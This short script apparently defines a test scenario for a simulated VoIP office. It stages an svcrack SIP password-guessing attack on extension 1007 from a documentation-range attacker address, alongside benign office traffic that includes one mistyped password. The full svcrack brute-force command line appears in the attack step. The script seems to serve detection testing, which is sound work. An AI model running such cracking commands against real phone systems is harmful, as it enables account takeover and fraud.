# svcrack tries words as passwords of 1007, and one of them is right. Meanwhile the office
# telephones, and somebody who sets up a new phone mistypes a password once.
open_office
add_attacker cracker 203.0.113.66
start_office_capture
keep_alive 9
office_day 14 65
at 8 new_phone 1009
words >"$scratch/words"
at 15 attack A1 password_cracking cracker 5060 "svcrack tries words as passwords of 1007 until one is right." \
    "$(version_of svcrack)" svcrack -b 203.0.113.66 -x 203.0.113.66 -P 5060 -t 0.08 -u "$WEAK" -d "$scratch/words" 192.0.2.1
play
wait_for A1
close_office
expect_said A1 "$WEAK_PASSWORD"
